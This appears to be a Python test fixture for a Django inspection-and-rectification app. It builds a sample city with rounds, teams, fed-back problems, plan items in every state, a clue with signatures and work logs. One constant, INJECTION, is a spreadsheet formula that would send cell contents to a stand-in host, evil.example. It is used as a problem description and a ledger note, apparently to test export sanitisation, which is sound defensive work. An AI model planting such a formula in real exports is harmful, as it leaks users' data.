"""A small inspected city for the report and import tests, written directly
(no services), like tests/factories.py: one round in rectification, one team,
one target with fed-back problems, its plan and ledger items in every state,
a clue handed over with its three signatures, a week of work logs.
"""

import datetime
from dataclasses import dataclass
from decimal import Decimal

from django.utils import timezone
from guardian.shortcuts import assign_perm

from clues.models import Clue
from rectification.models import Item, LedgerEntry, Plan
from rounds.models import (
    Membership,
    Problem,
    ProblemCategory,
    Round,
    Target,
    Team,
    WeeklySummary,
    WorkLog,
)
from rounds.services.worklogs import compile_week
from tests.factories import (
    CadreFactory,
    DepartmentFactory,
    OrganizationFactory,
    UserFactory,
    make_user,
)
from xuncha.accounts.roles import Role

TODAY = datetime.date(2025, 6, 16)  # a Monday
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@dataclass
class City:
    office_user: object
    unit_user: object
    leader_user: object
    member_user: object
    department_user: object
    organization: object
    other_organization: object
    round: Round
    team: Team
    target: Target
    other_target: Target
    plan: Plan
    items: list[Item]
    problems: list[Problem]
    clue: Clue
    summary: WeeklySummary


def _problem(target, category, description, user, **extra) -> Problem:
    return Problem.objects.create(
        target=target,
        round=target.round,
        team=target.team,
        category=category,
        description=description,
        source=extra.pop("source", Problem.Source.INTERVIEW),
        severity=extra.pop("severity", Problem.Severity.SERIOUS),
        status=extra.pop("status", Problem.Status.FED_BACK),
        found_by=user,
        found_on=extra.pop("found_on", datetime.date(2025, 4, 10)),
        **extra,
    )


def _entry(item, action, actor, before, after, note, progress=None):
    return LedgerEntry.objects.create(
        item=item,
        action=action,
        actor=actor,
        note=note,
        progress=progress,
        state_before=before,
        state_after=after,
    )


def build_city(office_user=None) -> City:
    office_user = office_user or make_user(Role.OFFICE, full_name="巡察办王敏")
    office = office_user.office
    organization = OrganizationFactory(name="市财政局党组", short_name="市财政局", code="C-CZJ")
    other_organization = OrganizationFactory(name="市教育局党组", code="C-JYJ")
    unit_user = make_user(Role.UNIT_CONTACT, organization=organization, full_name="财政局联络员")
    department_user = make_user(Role.DEPARTMENT, full_name="纪委监委李强")
    leader_user = UserFactory(username="leader", full_name="组长赵刚", roles=[Role.TEAM_LEADER])
    member_user = UserFactory(username="member", full_name="组员钱芳", roles=[Role.TEAM_MEMBER])

    round_ = Round.objects.create(
        office=office,
        term=13,
        number=1,
        year=2025,
        planned_start=datetime.date(2025, 3, 1),
        planned_end=datetime.date(2025, 5, 31),
        status=Round.Status.RECTIFYING,
    )
    team = Team.objects.create(round=round_, number=1, liaison="孙丽")
    now = timezone.now()
    for user, role in ((leader_user, Membership.Role.LEADER), (member_user, "member")):
        Membership.objects.create(
            team=team,
            round=round_,
            cadre=CadreFactory(user=user, name=user.full_name[2:]),
            role=role,
            commitments_completed_at=now,
        )
    target = Target.objects.create(
        round=round_,
        team=team,
        organization=organization,
        leader_name="周建国",
        entry_date=datetime.date(2025, 3, 10),
        exit_date=datetime.date(2025, 4, 30),
        feedback_date=datetime.date(2025, 5, 20),
        status=Target.Status.RECTIFYING,
    )
    other_target = Target.objects.create(
        round=round_,
        team=team,
        organization=other_organization,
        feedback_date=datetime.date(2025, 5, 21),
        status=Target.Status.RECTIFYING,
    )
    c04 = ProblemCategory.objects.get(code="C04")
    a02 = ProblemCategory.objects.get(code="A02")
    b02 = ProblemCategory.objects.get(code="B02")
    problems = [
        _problem(target, c04, "违规向在职人员发放津补贴共计12.6万元，整改不彻底。", office_user),
        _problem(target, a02, "“三重一大”事项未经党组会集体研究即作出决定。", office_user),
        _problem(target, b02, "组织生活会批评与自我批评不严肃，流于形式。", office_user),
        _problem(target, c04, INJECTION, office_user, immediate_fix=True),
        _problem(target, a02, "政府采购项目化整为零，规避公开招标。", office_user),
    ]
    # Not yet fed back: must appear in the inspection report, never in the feedback.
    _problem(
        target,
        b02,
        "内部研判中的问题：干部档案涂改。",
        office_user,
        status=Problem.Status.IN_REPORT,
    )
    _problem(other_target, c04, "教育局的问题，不属于财政局。", office_user)

    plan = Plan.objects.create(
        target=target,
        organization=organization,
        status=Plan.Status.ACCEPTED,
        signed_by=unit_user,
        signed_at=now,
        submitted_at=now,
        reviewed_by=office_user,
        reviewed_at=now,
    )
    S = Item.State
    specs = [
        # (state, kind, deadline offset in days from today, progress)
        (S.IN_PROGRESS, Item.Kind.DEADLINE, -5, 60),  # red: overdue
        (S.IN_PROGRESS, Item.Kind.DEADLINE, 5, 30),  # yellow
        (S.HANDED_IN, Item.Kind.DEADLINE, 15, 100),  # green
        (S.CLOSED, Item.Kind.IMMEDIATE, -30, 100),
        (S.TRANSFERRED, Item.Kind.DEADLINE, 90, 20),
    ]
    today = timezone.localdate()
    items = []
    for problem, (state, kind, offset, progress) in zip(problems, specs, strict=True):
        items.append(
            Item.objects.create(
                plan=plan,
                problem=problem,
                organization=organization,
                round=round_,
                office=office,
                measures=f"针对“{problem.description[:12]}”制定专项整改措施，建立长效机制。",
                kind=kind,
                responsible_leader="周建国",
                responsible_person="吴海涛",
                responsible_department="计划财务处",
                deadline=today + datetime.timedelta(days=offset),
                state=state,
                progress=progress,
                transferred_to=DepartmentFactory(name="市审计局")
                if state == S.TRANSFERRED
                else None,
                rules_made=2 if state == S.CLOSED else 0,
                money_recovered=Decimal("126000.00") if state == S.CLOSED else 0,
                closed_at=now if state == S.CLOSED else None,
            )
        )
    _entry(items[0], "report", unit_user, S.IN_PROGRESS, S.IN_PROGRESS, "已清退部分资金。", 60)
    _entry(items[2], "hand_in", unit_user, S.IN_PROGRESS, S.HANDED_IN, "已全部整改到位。")
    _entry(items[3], "hand_in", unit_user, S.IN_PROGRESS, S.HANDED_IN, INJECTION)
    _entry(items[3], "check_accept", office_user, S.HANDED_IN, S.ACCEPTED, "查验通过。")
    _entry(items[3], "close", office_user, S.ACCEPTED, S.CLOSED, "")

    at = now - datetime.timedelta(days=3)
    clue = Clue.objects.create(
        number="XC2025-00001",
        round=round_,
        team=team,
        target=target,
        person_name="吴某某",
        person_position="计划财务处处长",
        person_rank=Clue.Rank.DEPARTMENT,
        discipline=Clue.Discipline.INTEGRITY,
        source=Problem.Source.PETITION,
        confidentiality=Clue.Confidentiality.CONFIDENTIAL,
        summary="反映其违规发放津补贴并从中获利。",
        department=department_user.department,
        status=Clue.Status.RECEIVED,
        drafted_by=member_user,
        submitted_by=leader_user,
        submitted_at=at,
        approved_by=office_user,
        approved_at=at,
        received_by=department_user,
        received_at=at,
        disposition_due=today + datetime.timedelta(days=27),
    )
    clue.problems.set(problems[:1])
    assign_perm("clues.view_clue", clue.department.group, clue)  # as clue_receive does

    week_start = datetime.date(2025, 3, 10)
    for offset in (0, 1, 2, 3):
        WorkLog.objects.create(
            team=team,
            date=week_start + datetime.timedelta(days=offset),
            interviews=6,
            documents=20,
            petitions=2,
            visits=1,
            problems_found=1,
            narrative="个别谈话，调阅会议记录。",
            filed_by=leader_user,
        )
    summary = WeeklySummary.objects.create(
        round=round_, week_start=week_start, data=compile_week(round_, week_start)
    )
    return City(
        office_user=office_user,
        unit_user=unit_user,
        leader_user=leader_user,
        member_user=member_user,
        department_user=department_user,
        organization=organization,
        other_organization=other_organization,
        round=round_,
        team=team,
        target=target,
        other_target=other_target,
        plan=plan,
        items=items,
        problems=problems,
        clue=clue,
        summary=summary,
    )
